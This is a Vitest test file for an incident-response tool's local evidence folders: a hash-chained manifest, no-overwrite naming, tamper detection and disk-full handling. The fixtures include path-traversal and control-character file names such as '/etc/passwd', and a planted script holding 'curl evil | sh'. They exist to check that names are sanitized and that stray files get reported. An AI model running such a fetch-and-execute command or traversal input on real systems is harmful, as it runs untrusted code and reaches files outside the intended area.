/** Local evidence folders: chained manifest, no overwrites, sanitized names, parallel writers, tamper detection. */
import { existsSync, readdirSync } from 'node:fs';
import { appendFile, mkdtemp, readFile, rm, symlink, unlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { LocalCaseFolder } from '../../../src/evidence/local-case-folder.js';
import { openEvidence } from '../../../src/evidence/open-evidence.js';
import { verifyManifest } from '../../../src/evidence/verify-manifest.js';
import { entryLine, nextEntry, parseEntryLine, sha256Hex } from '../../../src/evidence/manifest-chain.js';
import { NotFoundError, TourniquetError, UsageError } from '../../../src/errors.js';
import { CAN_MOUNT_TMPFS, withSmallTmpfs } from '../../support/small-tmpfs.js';

let root: string;

beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'tourniquet-evidence-'));
});

afterEach(async () => {
  await rm(root, { recursive: true, force: true });
});

async function manifestLines(dir: string): Promise<string[]> {
  return (await readFile(join(dir, 'manifest.jsonl'), 'utf8')).split('\n').filter((l) => l !== '');
}

async function threeArtefacts(): Promise<LocalCaseFolder> {
  const w = new LocalCaseFolder(root, 'inc-1');
  await w.put('finding.json', { id: 'f1', type: 'CryptoCurrency:EC2/BitcoinTool.B!DNS' });
  await w.put('console.txt', 'boot log\n');
  await w.put('memory/ram.bin', new Uint8Array([1, 2, 3, 4]));
  return w;
}

describe('LocalCaseFolder', () => {
  it('stores artefacts and a chained manifest that verifies', async () => {
    const w = await threeArtefacts();
    expect(w.location).toBe(`file://${join(root, 'inc-1')}`);
    const json = await readFile(join(w.dir, 'finding.json'), 'utf8');
    expect(json).toBe('{\n  "id": "f1",\n  "type": "CryptoCurrency:EC2/BitcoinTool.B!DNS"\n}\n');
    expect([...(await readFile(join(w.dir, 'memory', 'ram.bin')))]).toEqual([1, 2, 3, 4]);
    const entries = (await manifestLines(w.dir)).map((l) => parseEntryLine(l)!);
    expect(entries.map((e) => [e.seq, e.name, e.bytes])).toEqual([
      [1, 'finding.json', json.length],
      [2, 'console.txt', 9],
      [3, 'memory/ram.bin', 4],
    ]);
    expect(entries[0]!.sha256).toBe(sha256Hex(json));
    const report = await verifyManifest(w.location);
    expect(report).toMatchObject({ ok: true, entries: 3, verified: 3, headChain: entries[2]!.chain, unlisted: [] });
    // A plain path works too.
    expect((await verifyManifest(w.dir)).ok).toBe(true);
  });

  it('never overwrites: a taken name gets a suffix', async () => {
    const w = new LocalCaseFolder(root, 'inc-1');
    const a = await w.put('steps/isolate/result.json', { attempt: 1 });
    const b = await w.put('steps/isolate/result.json', { attempt: 2 });
    const c = await w.put('steps/isolate/result.json', { attempt: 3 });
    expect([a.name, b.name, c.name]).toEqual(['steps/isolate/result.json', 'steps/isolate/result-2.json', 'steps/isolate/result-3.json']);
    expect(JSON.parse(await readFile(join(w.dir, 'steps/isolate/result.json'), 'utf8'))).toEqual({ attempt: 1 });
    expect(JSON.parse(await readFile(join(w.dir, 'steps/isolate/result-2.json'), 'utf8'))).toEqual({ attempt: 2 });
    // A file that appeared outside the manifest is not overwritten either.
    await writeFile(join(w.dir, 'stray.txt'), 'not mine');
    const d = await w.put('stray.txt', 'mine');
    expect(d.name).toBe('stray-2.txt');
    expect(await readFile(join(w.dir, 'stray.txt'), 'utf8')).toBe('not mine');
  });

  it('keeps hostile names inside the case folder', async () => {
    const w = new LocalCaseFolder(root, '../escape');
    expect(w.dir.startsWith(root)).toBe(true);
    const names = [
      (await w.put('../../outside.json', 1)).name,
      (await w.put('/etc/passwd', 'x')).name,
      (await w.put('a\u0000b\u001b[31m.txt', 'x')).name,
      (await w.put('manifest.jsonl', 'fake manifest')).name,
    ];
    expect(names).toEqual(['outside.json', 'etc/passwd', 'ab_31m.txt', '_manifest.jsonl']);
    const report = await verifyManifest(w.location);
    expect(report).toMatchObject({ ok: true, entries: 4, unlisted: [] });
  });

  it('keeps the chain linear under parallel puts, also from two writers on one folder', async () => {
    const a = new LocalCaseFolder(root, 'inc-par');
    const b = new LocalCaseFolder(root, 'inc-par');
    const results = await Promise.all(
      Array.from({ length: 40 }, (_, i) => (i % 2 === 0 ? a : b).put(`steps/s${i % 5}/result.json`, { i })),
    );
    expect(results.map((r) => r.seq).sort((x, y) => x - y)).toEqual(Array.from({ length: 40 }, (_, i) => i + 1));
    expect(new Set(results.map((r) => r.name)).size).toBe(40);
    const lines = await manifestLines(a.dir);
    expect(lines.map((l) => parseEntryLine(l)!.seq)).toEqual(Array.from({ length: 40 }, (_, i) => i + 1));
    expect(await verifyManifest(a.location)).toMatchObject({ ok: true, entries: 40 });
  });

  it('continues an existing case (a later run appends to the same chain)', async () => {
    const first = await threeArtefacts();
    const later = new LocalCaseFolder(root, 'inc-1');
    const e = await later.put('release.json', { by: 'alice' });
    expect(e.seq).toBe(4);
    expect(await verifyManifest(first.location)).toMatchObject({ ok: true, entries: 4 });
  });

  it('refuses to extend a damaged manifest', async () => {
    const w = await threeArtefacts();
    await appendFile(join(w.dir, 'manifest.jsonl'), '{"seq": 4, "trunc');
    await expect(w.put('more.json', {})).rejects.toMatchObject({ code: 'evidence.manifest-damaged' });
  });
});

describe('LocalCaseFolder keeps the chain head', () => {
  it('links after lines another process appended since, reading only those', async () => {
    const w = await threeArtefacts();
    // Another process (a later CLI run) appends an entry and its artefact.
    const lines = await manifestLines(w.dir);
    const last = parseEntryLine(lines[2]!)!;
    await writeFile(join(w.dir, 'outside.json'), 'x');
    const theirs = nextEntry(last, 'outside.json', sha256Hex('x'), 1, '2026-01-01T00:00:00.000Z');
    await appendFile(join(w.dir, 'manifest.jsonl'), `${entryLine(theirs)}\n`);
    const mine = await w.put('after.json', {});
    expect(mine.seq).toBe(5);
    expect(await verifyManifest(w.location)).toMatchObject({ ok: true, entries: 5 });
  });

  it('reads the manifest again when it was rewritten in place (cut tail): the chain continues from what is there', async () => {
    const w = await threeArtefacts();
    const lines = await manifestLines(w.dir);
    await writeFile(join(w.dir, 'manifest.jsonl'), `${lines.slice(0, 2).join('\n')}\n`);
    const e = await w.put('next.json', {});
    expect(e.seq).toBe(3);
    expect(e.chain).toBe(nextEntry(parseEntryLine(lines[1]!), 'next.json', e.sha256, e.bytes, e.recordedAt).chain);
  });

  it('refuses to extend a chain whose appended line does not link (edited hash)', async () => {
    const w = await threeArtefacts();
    const last = parseEntryLine((await manifestLines(w.dir))[2]!)!;
    const forged = { ...nextEntry(last, 'x.json', sha256Hex('x'), 1, '2026-01-01T00:00:00.000Z'), chain: 'f'.repeat(64) };
    await appendFile(join(w.dir, 'manifest.jsonl'), `${entryLine(forged)}\n`);
    await expect(w.put('more.json', {})).rejects.toMatchObject({ code: 'evidence.manifest-damaged', message: expect.stringContaining('line 4 is not a valid next entry') });
  });

  it('has no limit on copies of one name (the 10,000th and beyond get their suffix)', async () => {
    const w = new LocalCaseFolder(root, 'inc-many');
    await w.put('seed.json', {});
    // A manifest that already lists 12,000 copies of result.json (their files are not needed to pick the next name).
    const entries = [parseEntryLine((await manifestLines(w.dir))[0]!)!];
    for (let n = 1; n <= 12_000; n++) {
      const name = n === 1 ? 'result.json' : `result-${n}.json`;
      entries.push(nextEntry(entries.at(-1), name, sha256Hex(name), 1, '2026-01-01T00:00:00.000Z'));
    }
    await writeFile(join(w.dir, 'manifest.jsonl'), `${entries.map(entryLine).join('\n')}\n`);
    const started = Date.now();
    const e = await w.put('result.json', { n: 12_001 });
    expect(e).toMatchObject({ name: 'result-12001.json', seq: 12_002 });
    const f = await w.put('result.json', { n: 12_002 });
    expect(f.name).toBe('result-12002.json');
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it('an evidence folder that cannot be created is one error naming it', async () => {
    await writeFile(join(root, 'file'), 'x');
    const w = new LocalCaseFolder(join(root, 'file'), 'inc-1');
    await expect(w.put('a.json', {})).rejects.toThrow(`cannot create the evidence folder ${join(root, 'file', 'inc-1')}: ${join(root, 'file')} is a file, not a folder`);
  });
});

describe('verifyManifest (local)', () => {
  it('detects a changed artefact', async () => {
    const w = await threeArtefacts();
    await writeFile(join(w.dir, 'console.txt'), 'boot LOG\n'); // same size, other content
    expect((await verifyManifest(w.location)).firstBreak).toMatchObject({ reason: 'hash-mismatch', seq: 2, name: 'console.txt' });
    await writeFile(join(w.dir, 'console.txt'), 'short');
    const report = await verifyManifest(w.location);
    expect(report).toMatchObject({ ok: false, verified: 1, firstBreak: { reason: 'size-mismatch', seq: 2 } });
  });

  it('detects a missing artefact', async () => {
    const w = await threeArtefacts();
    await unlink(join(w.dir, 'memory', 'ram.bin'));
    expect((await verifyManifest(w.location)).firstBreak).toMatchObject({ reason: 'missing-artefact', seq: 3, name: 'memory/ram.bin' });
  });

  it('detects an edited manifest line (hash swapped to match a replaced file)', async () => {
    const w = await threeArtefacts();
    await writeFile(join(w.dir, 'console.txt'), 'forged\n');
    const lines = await manifestLines(w.dir);
    const entry = parseEntryLine(lines[1]!)!;
    lines[1] = JSON.stringify({ ...entry, sha256: sha256Hex('forged\n'), bytes: 7 });
    await writeFile(join(w.dir, 'manifest.jsonl'), `${lines.join('\n')}\n`);
    expect((await verifyManifest(w.location)).firstBreak).toMatchObject({ reason: 'chain-mismatch', seq: 2 });
  });

  it('detects a removed or reordered manifest line', async () => {
    const w = await threeArtefacts();
    const lines = await manifestLines(w.dir);
    await writeFile(join(w.dir, 'manifest.jsonl'), `${[lines[0], lines[2]].join('\n')}\n`);
    expect((await verifyManifest(w.location)).firstBreak).toMatchObject({ reason: 'seq-mismatch', seq: 2 });
    await writeFile(join(w.dir, 'manifest.jsonl'), `${[lines[1], lines[0], lines[2]].join('\n')}\n`);
    expect((await verifyManifest(w.location)).firstBreak).toMatchObject({ reason: 'seq-mismatch', seq: 1 });
  });

  it('detects a malformed line and an entry pointing outside the case', async () => {
    const w = await threeArtefacts();
    const lines = await manifestLines(w.dir);
    await writeFile(join(w.dir, 'manifest.jsonl'), `${lines[0]}\nnot json\n`);
    expect((await verifyManifest(w.location)).firstBreak).toMatchObject({ reason: 'malformed-entry', seq: 2 });
    const entry = parseEntryLine(lines[0]!)!;
    await writeFile(join(w.dir, 'manifest.jsonl'), `${JSON.stringify({ ...entry, name: '../../etc/passwd' })}\n`);
    expect((await verifyManifest(w.location)).firstBreak).toMatchObject({ reason: 'malformed-entry', seq: 1 });
  });

  it('detects a cut tail only against an anchored head', async () => {
    const w = await threeArtefacts();
    const head = (await verifyManifest(w.location)).headChain!;
    const lines = await manifestLines(w.dir);
    await writeFile(join(w.dir, 'manifest.jsonl'), `${lines.slice(0, 2).join('\n')}\n`);
    const unanchored = await verifyManifest(w.location);
    expect(unanchored.ok).toBe(true); // internally consistent …
    expect(unanchored.unlisted).toEqual(['memory/ram.bin']); // … with an artefact nobody lists
    expect((await verifyManifest(w.location, { expectHead: head })).firstBreak).toMatchObject({ reason: 'head-missing' });
  });

  it('reports files the manifest does not list', async () => {
    const w = await threeArtefacts();
    await writeFile(join(w.dir, 'dropped-in.sh'), 'curl evil | sh');
    const report = await verifyManifest(w.location);
    expect(report).toMatchObject({ ok: true, unlisted: ['dropped-in.sh'] });
  });

  it('says when the case folder does not exist', async () => {
    await expect(verifyManifest(`file://${join(root, 'nope')}`)).rejects.toBeInstanceOf(NotFoundError);
  });
});

describe('openEvidence', () => {
  it('needs exactly one location', async () => {
    await expect(openEvidence('inc-1', {})).rejects.toBeInstanceOf(UsageError);
    await expect(openEvidence('inc-1', { dir: root, s3Uri: 's3://bucket-name/p' })).rejects.toBeInstanceOf(UsageError);
  });

  it('opens a local case folder', async () => {
    const w = await openEvidence('inc-7', { dir: root, now: () => new Date('2026-11-28T10:00:00.000Z') });
    const e = await w.put('a.json', {});
    expect(e.recordedAt).toBe('2026-11-28T10:00:00.000Z');
    expect(w.location).toBe(`file://${join(root, 'inc-7')}`);
  });
});

describe('a disk that cannot take the write', () => {
  it.skipIf(!existsSync('/dev/full'))('a manifest that cannot be appended (ENOSPC) is one evidence.write error naming it (was Node’s bare "ENOSPC … write")', async () => {
    const w = new LocalCaseFolder(root, 'inc-full');
    await w.put('first.json', {});
    await unlink(join(w.dir, 'manifest.jsonl'));
    await symlink('/dev/full', join(w.dir, 'manifest.jsonl'));
    const err = await w.put('second.json', {}).then(() => undefined, (e: unknown) => e);
    expect(err).toBeInstanceOf(TourniquetError);
    expect(err).toMatchObject({ code: 'evidence.write', message: `cannot write the evidence file ${join(w.dir, 'manifest.jsonl')}: no space left on device (ENOSPC)` });
  });

  // A full file system needs a small one: a 16 KiB tmpfs (root only).
  it.skipIf(!CAN_MOUNT_TMPFS)('an artefact on a full disk names its file and leaves no part-written file behind', async (ctx) => {
    await withSmallTmpfs(16, async (tmpfs) => {
      if (tmpfs === undefined) return ctx.skip();
      const w = new LocalCaseFolder(tmpfs.dir, 'inc-full');
      const err = await w.put('big.bin', new Uint8Array(64 * 1024)).then(() => undefined, (e: unknown) => e);
      expect(err).toMatchObject({ code: 'evidence.write', message: `cannot write the evidence file ${join(w.dir, 'big.bin')}: no space left on device (ENOSPC)` });
      expect(readdirSync(w.dir)).toEqual([]);
    });
  });

  it.skipIf(!CAN_MOUNT_TMPFS)('a manifest line cut off by a full disk is taken back, with its artefact: the chain still verifies and the next write continues it', async (ctx) => {
    await withSmallTmpfs(16, async (tmpfs) => {
      if (tmpfs === undefined) return ctx.skip();
      const w = new LocalCaseFolder(tmpfs.dir, 'inc-cut');
      const manifest = join(w.dir, 'manifest.jsonl');
      // Empty artefacts take no space of their own: only the manifest grows (~230 bytes a line), until its next line
      // would cross into a page of its own.
      let n = 0;
      while ((await readFile(manifest).catch(() => Buffer.alloc(0))).byteLength % 4096 <= 4096 - 200 && n < 60) await w.put(`a${n++}.bin`, new Uint8Array(0));
      const before = await readFile(manifest);
      // Every page left taken: the next line fits only in part in the manifest's last page.
      try {
        tmpfs.fill(64 * 1024);
      } catch {
        // ENOSPC: the filler took what there was.
      }
      const err = await w.put('cut.bin', new Uint8Array(0)).then(() => undefined, (e: unknown) => e);
      expect(err).toMatchObject({ code: 'evidence.write', message: `cannot write the evidence file ${manifest}: no space left on device (ENOSPC)` });
      expect(await readFile(manifest)).toEqual(before);
      expect(existsSync(join(w.dir, 'cut.bin'))).toBe(false);
      await unlink(join(tmpfs.dir, 'filler'));
      await w.put('cut.bin', new Uint8Array(0));
      const verified = await verifyManifest(w.location);
      expect(verified.ok).toBe(true);
      expect(verified.unlisted).toEqual([]);
      expect(verified.listed.map((e) => e.name)).toContain('cut.bin');
    });
  });
});
